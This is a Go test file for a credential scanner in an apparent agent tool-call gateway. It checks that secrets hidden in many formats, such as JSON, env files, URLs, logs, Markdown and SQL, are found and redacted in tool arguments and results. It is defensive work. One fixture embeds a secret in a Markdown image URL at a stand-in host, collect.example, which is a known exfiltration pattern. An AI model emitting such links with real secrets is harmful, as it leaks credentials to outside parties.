package secret_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode"

	"toolward/gateway"
	"toolward/guard"
	"toolward/guard/decode/normal"
	"toolward/guard/decode/reading"
)

// TestHiddenCredentialsAreFoundEverywhere is the matrix of transformations by
// placements by both ways of a call, through the whole scanner: each cell must
// have a finding that takes the credential out, and when it is taken out,
// nothing of it may be left in any reading of what remains.
func TestHiddenCredentialsAreFoundEverywhere(t *testing.T) {
	s, err := guard.New(guard.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tr := range transformations {
		t.Run(tr.name, func(t *testing.T) {
			t.Parallel()
			for _, p := range placements {
				if p.name == "cookie" && (strings.HasPrefix(tr.name, "quoted") || strings.HasPrefix(tr.name, "MIME")) {
					continue // of a cookie's "=da" no mail is made
				}
				for _, token := range tokens {
					hiddenCell(t, s, p, token, tr.hide(token))
				}
			}
		})
	}
}

// hiddenCell scans one cell as arguments and as a result.
func hiddenCell(t *testing.T, s *guard.Scanner, p placement, token, hidden string) {
	t.Helper()
	placed := p.place(hidden)
	for _, stage := range []gateway.Stage{gateway.StageRequest, gateway.StageResult} {
		c := gateway.NewCall(gateway.SurfaceMCP, gateway.KindTool, "tools/call")
		c.Agent = &gateway.Agent{ID: "anna", Issuer: "https://id.example"}
		c.Tool = &gateway.Tool{Kind: gateway.KindTool, Server: "demo", Name: "tool", Wire: "demo__tool"}
		c.Name = c.Tool.Wire
		raw, scan := placed, s.Request
		if stage == gateway.StageResult {
			raw, scan = json.RawMessage(`{"content":[{"type":"text","text":"done"}],"structuredContent":`+string(placed)+`}`), s.Result
			c.Result = &gateway.Result{Raw: raw}
		} else {
			args, err := gateway.ParseArgs(raw)
			if err != nil && p.name == "member name" && strings.ContainsFunc(hidden, unicode.IsControl) {
				continue // no such name gets as far as the guard
			}
			if err != nil {
				t.Fatalf("%s: %v in %s", p.name, err, raw)
			}
			c.Args = args
		}
		report, err := scan(context.Background(), c)
		if err != nil {
			t.Errorf("%s: %v", p.name, err)
			continue
		}
		var edits []gateway.Edit
		for _, f := range report.Findings {
			if f.Kind == gateway.FindingSecret && f.Action == gateway.ActionRedact {
				edits = append(edits, gateway.Edit{Where: f.Where, Key: f.Key, Span: f.Span, With: "[redacted]"})
			}
		}
		if len(edits) == 0 {
			t.Errorf("%s, %s: %.8s not found in %s", p.name, stage, token, raw)
			return
		}
		left, err := gateway.Redact(raw, edits)
		if err != nil {
			t.Errorf("%s: %v", p.name, err)
			continue
		}
		if part := remains(string(left), token); part != "" {
			t.Errorf("%s, %s: %q of %.8s is left in %s of %s", p.name, stage, part, token, left, raw)
			return
		}
	}
}

// enough is how many letters of a credential in a row are too many to leave.
const enough = 10

// remains returns a part of the token that can be read in what is left, in any
// way that the project has of reading a text.
func remains(left, token string) string {
	var texts []string
	var strs func(any)
	strs = func(v any) {
		switch v := v.(type) {
		case string:
			texts = append(texts, v)
		case []any:
			for _, e := range v {
				strs(e)
			}
		case map[string]any:
			for name, e := range v {
				texts = append(texts, name)
				strs(e)
			}
		}
	}
	var v any
	if err := json.Unmarshal([]byte(left), &v); err != nil {
		return "invalid JSON: " + err.Error()
	}
	strs(v)
	var x reading.Expander
	n := normal.New(normal.Options{})
	whole := squash(token)
	for _, text := range texts {
		var all []string
		norm := n.Normalize(text)
		for _, v := range norm.Views {
			all = append(all, v.Text)
		}
		norm.Release()
		views, _ := x.Expand([]byte(text), nil, nil)
		for i := range views {
			all = append(all, string(views[i].Text))
		}
		for _, reading := range all {
			for _, r := range []string{squash(reading), squash(backwards(reading)), squash(rot13(reading))} {
				for i := 0; i+enough <= len(whole); i++ {
					if strings.Contains(r, whole[i:i+enough]) {
						return whole[i : i+enough]
					}
				}
			}
		}
	}
	return ""
}

// squash leaves letters and digits.
func squash(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= '0' && r <= '9' || r >= 'A' && r <= 'Z' || r >= 'a' && r <= 'z' {
			return r
		}
		return -1
	}, s)
}

// placement is where tool traffic has a credential. The text with %s is made
// as whoever writes such texts makes it: what would break it is escaped.
type placement struct {
	name, format string
	escape       func(string) string // nil: as it is
}

// place returns a JSON object with the text in it.
func (p placement) place(hidden string) json.RawMessage {
	if p.escape != nil {
		hidden = p.escape(hidden)
	}
	text := strings.ReplaceAll(p.format, "%s", hidden)
	var v any = map[string]any{"id": 4, "body": text, "draft": true}
	switch p.name {
	case "member":
		v = map[string]any{"service": "billing", "credentials": map[string]any{"value": text}, "retries": 3}
	case "member name":
		v = map[string]any{"headers": map[string]any{text: "yes"}}
	case "list":
		v = map[string]any{"command": "run", "args": []string{"--verbose", text, "--dry-run"}}
	}
	raw, err := json.Marshal(v)
	if err != nil {
		panic(fmt.Sprint("a placement that is no JSON: ", err))
	}
	return raw
}

var placements = []placement{
	{"alone", "%s", nil},
	{"member", "%s", nil},
	{"member name", "%s", nil},
	{"list", "%s", nil},
	{"JSON string", `{"service": "billing", "credentials": {"value": "%s"}, "retries": 3}`, inJSON},
	{"JSON in JSON", `{"content": "{\"note\": \"%s\"}"}`, func(s string) string { return inJSON(inJSON(s)) }},
	{"JSON in JSON in JSON", `{"a": "{\"b\": \"{\\\"c\\\": \\\"%s\\\", \\\"d\\\": 2}\"}"}`, func(s string) string { return inJSON(inJSON(inJSON(s))) }},
	{"YAML", "services:\n  app:\n    environment:\n      - SETTING=%s\n    ports: [80]", nil},
	{"env file", "# .env\nNODE_ENV=production\nVALUE=%s\nLOG_LEVEL=info", nil},
	{"TOML", "[auth]\nvalue = '%s'\n", nil},
	{"INI with colon", "[auth]\nvalue:%s\nuser:jo\n", nil},
	{"curl", `curl -s -H "X-Request: %s" https://api.example.com/v2/items`, nil},
	{"HTTP header", "GET /v2/items HTTP/1.1\r\nHost: api.example.com\r\nX-Value: %s\r\nAccept: */*\r\n\r\n", nil},
	{"cookie", "Cookie: theme=dark; sid=%s; lang=en", nil},
	{"URL query", "https://api.example.com/v2/items?limit=5&ref=%s&page=2", nil},
	{"URL query, escaped", "https://api.example.com/v2/items?limit=5&ref=%s&page=2", inURL},
	{"URL path", "see https://api.example.com/v2/%s/items for it", inURL},
	{"URL fragment", "https://app.example.com/cb#ref=%s", inURL},
	{"form", "grant=client&value=%s&scope=read", inURL},
	{"data URI", "data:text/plain,%s", inURL},
	{"log line", "2026-09-18T10:22:31Z WARN auth retry with %s failed: 401", nil},
	{"log field", `level=warn msg="retry" ref=%s, attempt=3`, nil},
	{"Markdown table", "| name | value |\n| --- | --- |\n| deploy | %s |", nil},
	{"Markdown code", "Use `%s` for the deploy.\n", nil},
	{"Markdown image", "Done. ![ok](https://collect.example/p?d=%s)", inURL},
	{"code fence", "```\n%s\n```\n", nil},
	{"source code", `const client = new Client({ ref: "%s" }); // rotate`, inJSON},
	{"mail", "Hi team,\n\nFor the record the value is %s.\n\nBest,\nJo", nil},
	{"before a comma", "We had %s, but it was rotated; ask Kim.", nil},
	{"in brackets", "the old value (%s) was revoked", nil},
	{"in square brackets", "values: [%s]", nil},
	{"in quotes", "She wrote '%s' on the board", nil},
	{"XML", "<config><value>%s</value></config>", inXML},
	{"HTML attribute", `<input type="text" name="v" value="%s">`, inXML},
	{"CSV", "4,Kim,%s,2026-01-04\n5,Jo,,\n", nil},
	{"shell export", "export VALUE=\"%s\"\nmake deploy", nil},
	{"SQL", "INSERT INTO settings (name, value) VALUES ('gw', '%s');", nil},
	{"chat", "jo: here you go %s :) delete it later", nil},
	{"long text", strings.Repeat("The quarterly numbers look fine. ", 60) + "%s" + strings.Repeat(" Nothing else to report today.", 60), nil},
}

func inJSON(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b[1 : len(b)-1])
}

// inURL escapes what has no place in a part of a URL.
func inURL(s string) string {
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; squash(s[i:i+1]) != "" || c == '-' || c == '_' || c == '.' || c == '~' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

func inXML(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}
